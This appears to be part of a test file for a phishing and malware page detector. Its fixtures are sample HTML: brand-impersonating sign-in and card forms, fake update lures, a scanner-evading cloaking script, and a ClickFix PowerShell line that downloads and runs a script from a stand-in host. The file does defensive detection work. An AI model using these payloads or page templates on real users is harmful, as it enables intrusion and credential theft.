      const shop = judge('https://www.ironbark-coffee.example/checkout', '<title>Checkout – Ironbark Coffee</title><img src="/img/ironbark.svg" alt="Ironbark Coffee"><form method="post"><input name="cc" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"><button>Pay</button></form><img src="https://www.paypalobjects.com/webstatic/en_US/i/buttons/PP_logo_h_100x26.png" alt="Pay with PayPal">');
      assert.equal(shop.verdict, 'clean');
    });

    it('reported speech is not a lure: a news item quoting a brand\'s scam text stays clean, the same text said by the page is not', () => {
      const filler = '<p>Our newsroom covers local politics, weather, sports and technology. Subscribe to the morning briefing for the top stories, and follow our reporters for updates throughout the day.</p>';
      const news = judge('https://news.daily-courier.example/tech/2026/apple-id-texts', `<title>Apple ID scam texts are back – Daily Courier</title><h1>Apple ID scam texts are back</h1><p>The message reads: “Your Apple ID has been locked. Sign in to unlock it today or it will be deleted.” Readers should ignore it.</p>${filler}`);
      assert.ok(!ids(news).includes('pressure-text') && !ids(news).includes('lure-text'), JSON.stringify(ids(news)));
      assert.equal(news.verdict, 'clean');
      const said = judge('https://appleid-unlock.example/', '<title>Apple ID</title><h1>Apple ID</h1><p>Your Apple ID has been locked. Sign in to unlock it today or it will be deleted.</p><form><input name="id"><input type="password" name="pw"></form>');
      assert.equal(said.verdict, 'malicious');
      const shouted = judge('https://appleid-unlock.example/2', '<title>Apple ID</title><h1>Apple ID</h1><p>Your Apple ID has been "locked". Sign in to unlock it today or it will be deleted.</p>');
      assert.ok(ids(shouted).includes('pressure-text') || ids(shouted).includes('lure-text'), JSON.stringify(ids(shouted)));
    });

    it('a lure the page says it never sends is no lure: a university webmail sign-in warning that IT never asks to "upgrade your mailbox" stays clean; the kit saying it is not', () => {
      const form = '<form method="post"><label>Username <input name="_user"></label><label>Password <input type="password" name="_pass"></label><button>Login</button></form>';
      const own = judge('https://webmail.uni-example.example/roundcube/?_task=login', `<title>University Webmail :: Welcome</title><h1>UB Webmail</h1>${form}<p>The ICT Service Desk will never email you asking to "upgrade your mailbox" – report such mails to the service desk.</p>`);
      assert.ok(!ids(own).includes('lure-text'), JSON.stringify(ids(own)));
      assert.equal(own.verdict, 'clean', `${own.verdict} by ${own.decidedBy?.join(',')}`);
      const kit = judge('https://webmail-upgrade.example/roundcube/', `<title>University Webmail :: Welcome</title><h1>UB Webmail</h1><p>Log in to upgrade your mailbox before it is closed.</p>${form}`);
      assert.ok(ids(kit).includes('lure-text'), JSON.stringify(ids(kit)));
    });

    it('a security write-up about ClickFix (its headline and text naming the campaign) with a copy button for the command it quotes stays clean', () => {
      const post = judge('https://blog.secureteam.example/posts/clickfix', '<title>ClickFix campaigns imitate Cloudflare</title><h1>ClickFix campaigns imitate Cloudflare</h1><p>The fake page says "Verify you are human. Press Win+R, then Ctrl+V and Enter."</p><pre>powershell -w hidden -c "iwr https://evil.example/a.ps1 | iex"</pre><button onclick="navigator.clipboard.writeText(document.querySelector(\'pre\').innerText)">Copy</button><p>Researchers saw the campaign on hundreds of compromised sites. The script copies the command to the clipboard when the visitor clicks the fake checkbox; the victim then runs it. Defenders should block mshta and PowerShell from the Run dialog through policy, and train users that no real CAPTCHA asks them to run anything.</p>');
      assert.equal(post.verdict, 'clean', JSON.stringify(ids(post)));
    });

    it('a security write-up in Japanese about ClickFix quoting the steps it asks for stays clean; the steps on a fake check are not', () => {
      const steps = '<ol><li>Windows キー + R を押します</li><li>Ctrl + V を押します</li><li>Enter を押します</li></ol>';
      const article =
        '<p>攻撃者は正規のサイトを改ざんし、偽の reCAPTCHA を表示します。訪問者がチェックボックスを押すと、悪意のあるコマンドがクリップボードにコピーされます。この手口は「ClickFix」と呼ばれ、マルウェアの配布に悪用されています。</p>' +
        '<p>実行されるのは PowerShell や mshta のコマンドで、情報窃取型のマルウェアを取得してインストールします。被害者自身が操作するため、ブラウザーのダウンロード保護やメールのフィルターを通り抜けてしまいます。</p>' +
        '<p>対策として、組織では「ファイル名を指定して実行」ダイアログをポリシーで無効にし、本物の CAPTCHA がコマンドの実行を求めることはないと利用者に周知してください。不審なページを見つけた場合はセキュリティ担当者に報告しましょう。</p>';
      const post = judge('https://blog.hoshizora-security.example/clickfix', `<title>ClickFix攻撃の最新手口 | 星空セキュリティ ブログ</title><h1>偽のreCAPTCHAを悪用するClickFix攻撃</h1>${article}<h2>1. 被害者が見る画面</h2><p>「私はロボットではありません」reCAPTCHA</p>${steps}`);
      assert.equal(post.verdict, 'clean', JSON.stringify(ids(post)));
      const check = judge('https://verify-human.example/', `<title>reCAPTCHA</title><h1>私はロボットではありません</h1><p>ロボットでないことを確認するには、次の手順を実行してください。</p>${steps}`);
      assert.notEqual(check.verdict, 'clean', JSON.stringify(ids(check)));
    });

    it('a script that navigates to a look-alike URL split at its slashes ([…].join("/")) is a redirect to it; a link to it without navigation is not', () => {
      const page = (nav: string): string => `<title>Contract.pdf</title><p>Loading secure document preview…</p><script>var a=['https:','','doc-auth.dropbox-files.example','s','auth.html'].join('/');${nav}</script>`;
      const redirect = judge('https://docs-viewer.example/d/1', page("setTimeout(function(){window.location=a;},3000);"));
      assert.ok(redirect.signals.some((x) => x.id === 'redirect-to-brand-lookalike' && /dropbox-files/.test(x.evidence)), JSON.stringify(ids(redirect)));
      assert.notEqual(redirect.verdict, 'clean');
      const noNav = judge('https://docs-viewer.example/d/2', page('console.log(a);'));
      assert.ok(ids(noNav).includes('brand-lookalike-target'));
      assert.ok(!ids(noNav).includes('redirect-to-brand-lookalike'));
    });

    it('the first step of a split sign-in on a brand-dressed host on shared hosting is phishing; the same step on a company\'s own site, and a newsletter box, are not', () => {
      const step = '<title>Sign in to your account</title><div class="c"><img src="/logo.svg" alt=""><div>Sign in</div><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><button>Next</button></div>';
      const kit = judge('https://m365-sessionverify.pages.dev/common/oauth2/v2.0/authorize', step);
      assert.ok(ids(kit).includes('credential-identifier'), JSON.stringify(ids(kit)));
      assert.equal(kit.verdict, 'malicious');
      assert.ok(kit.decidedBy?.includes('combo:brand-identifier-first'));
      const own = judge('https://login.fernhill-logistics.example/', '<title>Sign in – Fernhill Logistics</title><h1>Fernhill Logistics</h1><form><input type="email" name="email" autocomplete="username"><button>Next</button></form>');
      assert.ok(ids(own).includes('credential-identifier'));
      assert.equal(own.verdict, 'clean');
      const newsletter = judge('https://travel-tips.pages.dev/', '<title>Travel tips – log in for member deals</title><form><input type="email" name="newsletter-email" placeholder="Subscribe"><button>Subscribe</button></form>');
      assert.ok(!ids(newsletter).includes('credential-identifier'));
      assert.equal(newsletter.verdict, 'clean');
    });

    it('a URL glued from pieces in a script is read whole', () => {
      const r = judge('https://blog.garden-club.example/', "<title>Garden club</title><script>var u='https:/'+'/dropbox-files.secure-access.example/'+'s/1/Scan.pdf';</script>");
      assert.ok(r.signals.some((x) => x.id === 'brand-lookalike-target' && /dropbox-files/.test(x.evidence)));
    });

    it("Outlook Web App returning to another organisation's host is a copied page; returning to its own host it is the organisation's", () => {
      const owa = '<title>Outlook</title><div class="logo">Outlook</div><p>Your session has expired. Please sign in again to continue to Outlook Web App.</p><form method="post" action="/owa/auth.owa"><input name="username"><input type="password" name="password"><input type="submit" value="sign in"></form>';
      const kit = judge('https://owa-sessionrenew.exch-portal.example/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.stadtwerke-lindau.example%2fowa%2f', owa);
      assert.ok(ids(kit).includes('foreign-destination'), JSON.stringify(ids(kit)));
      assert.equal(kit.verdict, 'malicious');
      const own = judge('https://mail.kreis-oberwald.de/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.kreis-oberwald.de%2fowa%2f', owa);
      assert.ok(!ids(own).includes('foreign-destination'));
      assert.equal(own.verdict, 'clean');
    });

    it('GitLab on gitlab.<organisation> naming the organisation is the organisation\'s own instance; GitLab on a dressed host is a kit', () => {
      const page = (org: string): string => `<title>Sign in · GitLab</title><div class="logo">${org} GitLab</div><h1>GitLab</h1><form method="post" action="/users/sign_in"><input name="user[login]"><input type="password" name="user[password]"><button>Sign in</button></form>`;
      const own = judge('https://gitlab.vesta-biolabs.example/users/sign_in', page('Vesta Biolabs'));
      assert.equal(own.verdict, 'clean', JSON.stringify(ids(own)));
      assert.ok(!ids(own).includes('brand-in-hostname'), JSON.stringify(ids(own)));
      const kit = judge('https://gitlab.secure-login-verify.example/users/sign_in', page(''));
      assert.equal(kit.verdict, 'malicious', JSON.stringify(ids(kit)));
    });

    it('a word that is also a brand, as the service label of an organisation\'s own host (visa.<visa-centre>) on a page naming the organisation, is its own; the brand before a host the page does not name is a kit', () => {
      const page = (org: string): string => `<title>Visa appointment | ${org}</title><div class="logo">${org}</div><h1>Sign in to book your visa appointment</h1><form method="post"><input name="email"><input type="password" name="password"><button>Sign in</button></form>`;
      const own = judge('https://visa.travelvisa-centre.example/mar/fr/login', page('TravelVisa Centre'));
      assert.equal(own.verdict, 'clean', JSON.stringify(ids(own)));
      const kit = judge('https://visa.secure-card-verify.example/login', page('Visa'));
      assert.equal(kit.verdict, 'malicious', JSON.stringify(ids(kit)));
    });

    it('national identity numbers are identity fields (personnummer, PESEL, codice fiscale): a bank\'s BankID sign-in asking for one on a host the bank does not own is a kit, on its own host it is clean; an organisation\'s own TLD spelled into another host\'s label (northgate-org.com) dresses it', () => {
      const bankid = '<title>Swedbank – Logga in</title><h1>Swedbank</h1><p>Logga in med BankID.</p><form><label>Personnummer</label><input name="pnr"><button>Logga in</button></form>';
      const kit = judge('https://swedbank-se.kund-validering.example/bankid', bankid);
      assert.ok(kit.decidedBy?.includes('combo:brand-credentials'), `${kit.verdict} ${JSON.stringify(ids(kit))}`);
      const own = judge('https://online.swedbank.se/app/ib/logga-in', bankid);
      assert.equal(own.verdict, 'clean', JSON.stringify(ids(own)));
      const owa = judge('https://mail.northgate-org.example/owa/auth/logon.aspx', '<title>Outlook</title><h1>Outlook</h1><form method="post"><input name="username"><input type="password" name="password"><button>Sign in</button></form>');
      assert.ok(owa.decidedBy?.includes('combo:dressed-credentials'), `${owa.verdict} ${JSON.stringify(ids(owa))}`);
    });

    it('a federated brand (Sparkasse, Volksbank, Caixa…): a member institution under its own name on its own domain is its own; the brand on a dressed host is not', () => {
      const login = '<form method="post"><input name="user"><input type="password" name="pin"><button>Anmelden</button></form>';
      const member = judge('https://www.sparkasse-oberwald.de/de/home/login.html', `<title>Online-Banking | Sparkasse Oberwald</title><h1>Sparkasse Oberwald</h1>${login}`);
      assert.equal(member.verdict, 'clean', JSON.stringify(ids(member)));
      const kit = judge('https://sparkasse-onlinebanking-verify.example/login', `<title>Online-Banking | Sparkasse</title><h1>Sparkasse</h1>${login}`);
      assert.equal(kit.verdict, 'malicious');
    });

    const lookalikes: [string, string, string][] = [
      ['a parcel company\'s own customs-charges payment page', 'https://www.parcelo.ie/customs-charges/pay', '<title>Pay customs charges | Parcelo</title><header><b>Parcelo</b></header><p>Your item is being held at customs. VAT and a clearance fee are due before we can deliver it.</p><form method="post"><label>Card number</label><input name="cardNumber" autocomplete="cc-number"><label>Security code</label><input name="cvc" autocomplete="cc-csc"><button>Pay €49.86</button></form>'],
      ['Outlook Web App on an organisation\'s own mail host', 'https://mail.kreis-oberwald.de/owa/auth/logon.aspx', '<title>Outlook</title><h1>Outlook Web App</h1><form method="post" action="/owa/auth.owa"><input name="username"><input name="password" type="password"><button>Anmelden</button></form>'],
      ['an accounting SaaS listing the banks it connects to', 'https://www.tallybird.co.uk/', '<title>Tallybird – simple accounting</title><h1>Accounting that does itself</h1><div class="logos">Connects with Barclays · HSBC · Lloyds · NatWest · Monzo · PayPal</div><script>var cfg=JSON.parse(atob("eyJleHAiOiJoZXJvIn0="));eval("1+1")</script>'],
      ['a login with a session-expired notice on the company\'s own site', 'https://portal.brightwater-energy.example/login', '<title>Customer portal – Brightwater Energy</title><p>Your session has expired. Please sign in again.</p><form method="post"><input name="email"><input name="password" type="password"><button>Sign in</button></form>'],
    ];
    for (const [what, url, body] of lookalikes) {
      it(`stays clean: ${what}`, () => {
        const r = judge(url, body);
        assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
      });
    }

    it('page-at-file-path: a sign-in served from a CMS upload or plugin folder, .well-known, or named as a document is a kit on someone else\'s site', () => {
      for (const url of [
        'https://www.floorcare-alpine.example/.well-known/pki-validation/webmail/',
        'https://www.ferreteria-puente.example/wp-content/plugins/pdf-invoices/zimbra/index.php',
        'https://files.bucket-host.example/shared/Payment_Schedule_Q4.xlsx.html',
      ]) {
        const r = judge(url, `<title>Webmail Login</title>${login}`);
        assert.ok(ids(r).includes('page-at-file-path'), url);
        assert.ok(r.decidedBy?.includes('combo:credentials-at-file-path'), `${url}: ${r.decidedBy?.join(',')}`);
      }
      // The site's own WordPress login is where WordPress keeps it; a page in an upload folder without fields decides nothing.
      assert.equal(judge('https://www.floorcare-alpine.example/wp-login.php', `<title>Log In ‹ Alpine Floorcare</title>${login}`).verdict, 'clean');
      const upload = judge('https://www.floorcare-alpine.example/wp-content/uploads/2025/price-list.html', '<title>Price list</title><p>Carpet cleaning from £40.</p>');
      assert.ok(ids(upload).includes('page-at-file-path'));
      assert.equal(upload.verdict, 'clean');
      // The same folder serving a "page not found" to headless browsers hides a kit from scanners.
      const hidden = judge('https://www.floorcare-alpine.example/wp-includes/css/p24/', '<title>Alpine Floorcare</title><p>Page not found.</p><script>if (navigator.webdriver || /HeadlessChrome/.test(navigator.userAgent)) { document.body.innerHTML = "<p>Page not found.</p>"; } else { location.replace("/wp-includes/css/p24/login.php"); }</script>');
      assert.ok(hidden.decidedBy?.includes('combo:cloaked-file-path'), JSON.stringify(ids(hidden)));
    });

    it("a site builder's badge naming the registrable domain's owner on a subdomain makes the host a tenant of a platform (shared hosting): the builder's name is not the page's own", () => {
      const kit = judge('https://meta-copyright-appeal.kestrel-sites.example/', `<title>Instagram | Copyright appeal</title><meta property="og:site_name" content="Kestrel Sites"><h2>Your post was reported for copyright infringement</h2>${login}<footer>Made with Kestrel Sites</footer>`);
      assert.ok(ids(kit).includes('shared-hosting') && ids(kit).includes('brand-impersonation'), JSON.stringify(ids(kit)));
      assert.equal(kit.verdict, 'malicious');
      // A tenant naming itself by its subdomain is its own; the builder's own site, and a platform's service hosts (pay., docs.), are the platform's.
      assert.ok(!ids(judge('https://rosemary-bakehouse.kestrel-sites.example/login', `<title>Rosemary Bakehouse – members</title>${login}<footer>Made with Kestrel Sites</footer>`)).includes('identity-not-own'));
      assert.ok(!ids(judge('https://www.kestrel-sites.example/login', `<title>Kestrel Sites</title>${login}<footer>Made with Kestrel Sites</footer>`)).includes('shared-hosting'));
      const checkout = judge('https://pay.tillpoint.example/c/pay/cs_1', '<title>Harbor Bike Rentals</title><form><input name="cc" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"><button>Pay</button></form><footer>Powered by Tillpoint</footer>');
      assert.ok(!ids(checkout).includes('shared-hosting'));
      assert.equal(checkout.verdict, 'clean');
    });

    it("a host a registry brand owns is that brand's: another brand's keyword inside its name is not brand-in-hostname (tbank in gtbank.com)", () => {
      const own = judge('https://ibank.gtbank.com/ibank3/', `<title>GTBank Internet Banking</title>${login}`);
      assert.ok(!ids(own).includes('brand-in-hostname'), JSON.stringify(ids(own)));
      assert.equal(own.verdict, 'clean');
      assert.ok(ids(judge('https://tbank-online.example/', `<title>Sign in</title>${login}`)).includes('brand-in-hostname'));
    });

    it("claimed-name-in-subdomain: the page's own name joined to a descriptor in someone else's subdomain (CJIB on cjib-betaling.nl-overheid.help), with credentials or pressure; an organisation's plain service subdomains are not", () => {
      const kit = judge('https://cjib-betaling.nl-overheid.example/openstaand', '<title>CJIB | Openstaande boete betalen</title><h1>U heeft een openstaande boete</h1><p>Uw boete is verhoogd. Betaal vandaag om verdere verhoging te voorkomen.</p>');
      assert.ok(ids(kit).includes('claimed-name-in-subdomain'), JSON.stringify(ids(kit)));
      assert.ok(kit.decidedBy?.includes('combo:subdomain-claim-lure'), `${kit.verdict} ${kit.decidedBy?.join(',')}`);
      // Greek and Cyrillic names are romanised to meet the host: "ΕΛΤΑ Courier" on elta-courier.…
      const greek = judge('https://elta-courier.gr-paradosi.example/track', '<title>ΕΛΤΑ Courier | Εκκρεμής αποστολή</title><form><input name="cc" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc"><button>Πληρωμή</button></form>');
      assert.ok(greek.decidedBy?.includes('combo:subdomain-claim-credentials'), `${greek.verdict} ${greek.decidedBy?.join(',')}`);
      // A bank's product on its own plain subdomain, and an organisation's hyphenated service host, are not the trick.
      assert.ok(!ids(judge('https://kbiz.kasikorn-example-bank.example/authen/login.do', `<title>K BIZ</title>${login}`)).includes('claimed-name-in-subdomain'));
      assert.ok(!ids(judge('https://pve01.lab.kaarsten-it.example/', `<title>pve01 - Proxmox Virtual Environment</title>${login}`)).includes('claimed-name-in-subdomain'));
    });

    it("a name dressing the subdomain outweighs a phrase that spells the registrable label (\"Kurjer\" on kurjer-lv.piegade-apmaksa.example, titled \"Kurjer | Piegāde apmaksa\"); a name of the host's own, even with \"of\" or \"de\" in it, is not outweighed", () => {
      const card = '<form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvv" autocomplete="cc-csc"><button>Maksāt</button></form>';
      const kit = judge('https://kurjer-lv.piegade-apmaksa.example/sutijums/77', `<title>Kurjer | Piegāde apmaksa</title><h1>Kurjer</h1><p>Jūsu sūtījums gaida piegādes apmaksu: 1,99 EUR.</p>${card}`);
      assert.ok(ids(kit).includes('claimed-name-in-subdomain'), JSON.stringify(ids(kit)));
      assert.ok(kit.decidedBy?.includes('combo:subdomain-claim-credentials'), `${kit.verdict} ${kit.decidedBy?.join(',')}`);
      // "Banco del Norte" names the registrable label; the product in the subdomain is the bank's own.
      const own = judge('https://tarjeta-norte.banco-del-norte.example/pagar', `<title>Tarjeta Norte | Banco del Norte</title><h1>Banco del Norte</h1><p>Pague el saldo de su tarjeta.</p>${card}`);
      assert.ok(!ids(own).includes('claimed-name-in-subdomain'), JSON.stringify(ids(own)));
      assert.equal(own.verdict, 'clean');
    });

    it("topic-named-host: a password on a page that names no organisation, on a site named after the page's own topic (statements-archive-view for \"Statement ST-1182\"); an organisation's site naming itself in the heading is not", () => {
      const kit = judge('https://statements-archive-view.example/doc/view?id=ST-1182', `<title>Statement ST-1182</title><p>Sign in to view the document.</p>${login}`);
      assert.ok(ids(kit).includes('topic-named-host'), JSON.stringify(ids(kit)));
      assert.ok(kit.decidedBy?.includes('combo:topic-host-credentials'), `${kit.verdict} ${kit.decidedBy?.join(',')}`);
      const timesheet = judge('https://presenze-ferranti.example/approva', `<title>Fogli presenze</title><h2>Foglio presenze da approvare</h2>${login}`);
      assert.equal(timesheet.verdict, 'malicious');
      // The organisation's own remote-access page names it in its heading, beside a word of its domain.
      const own = judge('https://portal.stlukes-regional.example/logon', `<title>NetScaler AAA</title><h2>St. Luke's Regional Health · Remote Access</h2>${login}`);
      assert.ok(!ids(own).includes('topic-named-host'), JSON.stringify(ids(own)));
      assert.equal(own.verdict, 'clean');
    });

    it('a logo set in lower case at the top of the page is the name, not an ordinary word: the title naming the host is still its own', () => {
      const page = judge('https://www.verbraucherzentrale-nordost.example/wissen/phishing', '<title>Phishing-Radar | Verbraucherzentrale</title><header><a href="/">verbraucherzentrale</a> Nordost</header><h1>Aktuelle Warnungen</h1><p>Wir warnen vor gefälschten Nachrichten.</p>');
      assert.ok(!ids(page).includes('identity-not-own'), JSON.stringify(ids(page)));
    });

    it('a line offering a brand as a way to sign in or pay ("Ou avec FranceConnect", "Continue with Google") names the provider, not the page', () => {
      // A registry brand's own sign-in (never "its host's own" by name: its name is a registry brand's) offering another brand's sign-in.
      const own = judge('https://account.booking.com/sign-in', `<title>Sign in | Booking.com</title><h2>Continue with Apple</h2>${login}`);
      assert.ok(!ids(own).includes('brand-impersonation'), JSON.stringify(ids(own)));
      assert.equal(own.verdict, 'clean');
      assert.ok(ids(judge('https://connexion-compte.example/', `<title>Connexion</title><h2>FranceConnect</h2>${login}`)).includes('brand-impersonation'));
    });

    it('a hyphenated label whose every part begins a word of the name is its own ("univ-valmont" for "Nextcloud Université de Valmont"); a name joined to lure words is not', () => {
      const share = judge('https://cloud.univ-valmont.example/s/Zq8X', `<title>Partage protégé par mot de passe - Nextcloud Université de Valmont</title><p>Jean Dupont a partagé le fichier « budget.xlsx » avec vous. Ce partage est protégé par un mot de passe.</p><form method="post"><input type="password" name="password" placeholder="Mot de passe"><button>Valider</button></form>`);
      assert.ok(!ids(share).includes('identity-not-own'), JSON.stringify(ids(share)));
      assert.equal(share.verdict, 'clean');
      assert.ok(ids(judge('https://kraemer-steuer-dokumente.example/ablage/', `<title>Dokumentenablage</title><footer>© Steuerbüro Krämer</footer>${login}`)).includes('identity-not-own'));
    });

    it('a host dressed as a government\'s or a country\'s domain (gov-uk-portal, ac-uk before the real suffix) is a dressed host; the real ones are not', () => {
      for (const url of ['https://idp-northfield-uni.ac-uk.example/idp/profile/SAML2/Redirect/SSO', 'https://refund.gov-uk-portal.example/claim']) {
        const r = judge(url, `<title>Sign in</title>${login}`);
        assert.ok(ids(r).includes('dressed-host'), `${url} ${JSON.stringify(ids(r))}`);
      }
      assert.ok(!ids(judge('https://www.co-op.co.uk/login', `<title>Sign in</title>${login}`)).includes('dressed-host'));
    });

    it('topic-named-host is a kit trait: card fields on a site named after its topic, with pressure, on a page naming nobody', () => {
      const r = judge('https://campus-parking-permits.example/northfield/renew', '<title>Parking permit renewal</title><h1>Your parking permit expires today</h1><p>Renew now to avoid a penalty charge.</p><form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvv" autocomplete="cc-csc"><button>Pay £4.50</button></form>');
      assert.ok(r.decidedBy?.includes('combo:kit-traits-credentials'), `${r.verdict} ${r.decidedBy?.join(',')}`);
    });

    it("a brand's name as a subdomain of a domain named after the page's topic (correios.rastreio-taxacao) is a site dressed as the brand; the brand's own site is not", () => {
      const page = '<title>Correios - Rastreamento de Objetos</title><h1>Objeto aguardando pagamento</h1><p>Seu objeto NL482915327BR está retido na fiscalização aduaneira. Pague a taxa para liberar a entrega.</p><a href="/pagar">Pagar agora</a>';
      const kit = judge('https://correios.rastreio-taxacao.com/objeto/NL482915327BR', page);
      assert.ok(ids(kit).includes('topic-named-host') && ids(kit).includes('brand-in-hostname'), JSON.stringify(ids(kit)));
      assert.ok(kit.decidedBy?.includes('combo:brand-dressed-site'), `${kit.verdict} ${kit.decidedBy?.join(',')}`);
      // Phishing is the combination's category only when nothing else names one (a dressed installer site is malware).
      assert.deepEqual(kit.categories, ['phishing']);
      assert.equal(judge('https://rastreamento.correios.com.br/app/index.php', page).verdict, 'clean');
    });

    it('a creator platform\'s lure: a YouTube channel "under review" that "will be removed" unless its owner signs in, on a host YouTube does not own', () => {
      const r = judge('https://studio-partner-review.example/monetization/review', '<title>YouTube Partner Program — Monetization Review</title><h1>Your channel is under monetization review</h1><p>Confirm you own the channel by signing in with your Google Account. If you do not respond, your channel will be removed from the YouTube Partner Program.</p><a href="/signin">Sign in to respond</a>');
      assert.ok(ids(r).includes('brand-impersonation') && ids(r).includes('pressure-text'), JSON.stringify(ids(r)));
      assert.ok(r.decidedBy?.includes('combo:brand-lure'), `${r.verdict} ${r.decidedBy?.join(',')}`);
    });

    it('German customer-centre compounds dress a host as an account service (kestrelhost-kundencenter)', () => {
      assert.ok(ids(judge('https://kestrelhost-kundencenter.example/konto/', `<title>Kestrel Hosting</title>${login}`)).includes('dressed-host'));
    });
  });

  describe('malware, scams, drainers and ClickFix (signals/malware.ts, scams.ts, wallet.ts)', () => {
    const judge = (url: string, body: string, input: Partial<AnalysisInput> = {}): ReturnType<typeof analyze> => {
      const result = analyze({ ...inputFromFetch(html(url, body)), ...input }, { threatIntel: ThreatIntelIndex.empty(), rules });
      for (const s of result.signals) produced.add(s.id);
      return result;
    };
    const ids = (r: ReturnType<typeof analyze>): string[] => r.signals.map((s) => s.id);
    const clean = (r: ReturnType<typeof analyze>): void => assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
    /** The page is judged by combination `combo` (the signals are printed when it is not). */
    const decides = (combo: string, url: string, body: string): void => {
      const r = judge(url, body);
      assert.ok(r.decidedBy?.includes(`combo:${combo}`), JSON.stringify(ids(r)));
    };

    it('malware: a pretext in another language beside a payload; several pretexts beside a download button whose file is not visible', () => {
      const update = judge('https://zahnarzt-mueller.example/', '<h1>Ihr Browser ist veraltet</h1><p>Aktualisieren Sie Ihren Browser, um die Seite anzuzeigen.</p><a href="/wp-content/uploads/Update.zip">Jetzt aktualisieren</a>');
      assert.ok(ids(update).includes('malware-lure-text'));
      assert.ok(update.decidedBy?.includes('combo:malware-lure-download'));
      // "Out of date" said as "no longer up to date" (French, English).
      decides('malware-lure-download', 'https://club-velo-rixheim.example/', '<p>Votre navigateur n\'est plus à jour. Installez la mise à jour pour continuer.</p><a href="https://cdn-counter.example/dl/Update_128.exe">Mettre à jour</a>');
      decides('malware-lure-download', 'https://bakery-hills.example/', '<p>Your browser is no longer up to date.</p><a href="/wp-content/uploads/Update.zip">Update now</a>');
      // A video interview whose "camera driver or audio codec is not compatible" until the visitor installs the meeting client's update.
      decides('malware-lure-download', 'https://meet.hire-interviews.example/j/8837', '<title>Video Interview</title><p>Camera access failed. Your camera driver or audio codec is not compatible with the meeting client. Please install the latest Meeting update (v5.12.3) to join.</p><a href="/download/MeetingUpdate_x64.exe">Update and join</a>');
      const crack = judge('https://soft-free.example/tool-pro/', '<h1>Tool Pro 2026 Crack + Keygen</h1><ol><li>Désactivez votre antivirus avant l\'installation</li><li>Archive password: 2026</li></ol><a href="/go/?id=88">DOWNLOAD</a>');
      assert.ok(ids(crack).includes('malware-pretexts') && ids(crack).includes('download-cta'));
      assert.ok(crack.decidedBy?.includes('combo:malware-pretexts-download'));
      assert.deepEqual(crack.categories.slice(0, 1), ['malware']);
      const cheat = judge('https://blox-exec.example/', '<h1>Roblox executor, keyless and undetected</h1><p>Turn off Windows Defender real-time protection first. Extract with the password: blox</p><a href="https://mega.nz/file/abc#key">Get it</a>');
      assert.equal(cheat.verdict, 'malicious');
    });

    it('malware: a page whose headline names a business document and whose file is a script or shortcut, whatever its link says; a library\'s docs linking its .js are not, nor a lure', () => {
      const facture = judge('https://telechargement-facture.example/doc/FAC-2026-0219/', '<title>Facture FAC-2026-0219</title><h1>Votre facture est prête</h1><p>Le téléchargement ne démarre pas ? <a href="/doc/FAC-2026-0219/Facture_FAC-2026-0219.js">cliquez ici</a></p>');
      assert.ok(ids(facture).includes('document-payload-mismatch'), JSON.stringify(ids(facture)));
      assert.equal(facture.verdict, 'malicious');
      const docs = judge('https://pdfjs-docs.example/getting-started', '<title>Getting started | PDF.js</title><h1>PDF.js</h1><p>PDF.js is a PDF viewer built with HTML5.</p><a href="https://cdn.example-cdn.net/pdfjs/4.0/build/pdf.min.js">pdf.min.js</a> <a href="/build/pdf.worker.js">pdf.worker.js</a>');
      assert.ok(!ids(docs).includes('document-payload-mismatch'), JSON.stringify(ids(docs)));
      // "Getting started | PDF.js" is not an instruction to start a script.
      clean(docs);
    });

    it('malware: an advertised document delivered as an archive or script; a product named on a foreign host delivered under its name; a download the page starts itself', () => {
      const doc = judge('https://share-docs.example/c/1', '<h2>Signed contract</h2><a href="/files/Contract_2026.zip">Download the contract (PDF)</a>');
      assert.ok(ids(doc).includes('document-payload-mismatch'));
      assert.ok(doc.decidedBy?.includes('combo:document-payload'));
      const titled = judge('https://viewer.example/d/7', '<title>Q3_Budget.xlsx</title><a href="/d/7/Q3_Budget.js" download>Open</a>');
      assert.match(titled.signals.find((x) => x.id === 'document-payload-mismatch')?.evidence ?? '', /q3_budget/);
      const zoom = judge('https://zoom-meetings-app.example/download', '<title>Zoom Meetings - Download</title><h1>Download Zoom</h1><a href="/bin/ZoomInstallerFull.exe">Download for Windows</a>');
      assert.ok(ids(zoom).includes('brand-named-payload'));
      assert.ok(zoom.decidedBy?.includes('combo:brand-payload'));
      const auto = judge('https://news-portal.example/', '<meta http-equiv="refresh" content="2;url=/upd/ChromeSetup.msi"><h1>Your browser is out of date</h1><p>Update Chrome to continue.</p>');
      assert.ok(ids(auto).includes('auto-download'));
      assert.equal(auto.verdict, 'malicious');
    });

    const malwareLookalikes: [string, string, string][] = [
      ['a vendor thank-you page starting its own installer, with a SmartScreen note', 'https://www.inkpad.app/thanks', '<meta http-equiv="refresh" content="1;url=/files/Inkpad-Setup-1.4.exe"><h1>Thanks for downloading Inkpad</h1><p>Your download starts automatically. If Windows SmartScreen warns, click More info, then Run anyway.</p><a href="/files/Inkpad-Setup-1.4.exe">Download again</a>'],
      ['a product that also ships a Chrome extension as a zip', 'https://www.inkpad.app/download', '<title>Download Inkpad — Windows, macOS, Chrome</title><h2>Chrome</h2><a href="/files/inkpad-chrome-extension.zip">Download the extension (.zip)</a><h2>Windows</h2><a href="/files/Inkpad-Setup.exe">Download</a>'],
      ['a browser-update banner linking to an information page', 'https://www.stadtwerke-nord.example/', '<div class="buorg">Your web browser (IE 11) is out of date. Update your browser for more security, speed and the best experience on this site. <a href="https://browser-update.org/update-browser.html">Update browser</a></div><h1>Stadtwerke Nord</h1>'],
      ['a bank page asking for a supported browser, linking to the vendors', 'https://banking.example-bank.de/unsupported', '<h1>Your browser is outdated and no longer supported</h1><p>Please download a current browser:</p><a href="https://www.google.com/chrome/">Download Chrome</a> <a href="https://www.mozilla.org/firefox/new/">Download Firefox</a>'],
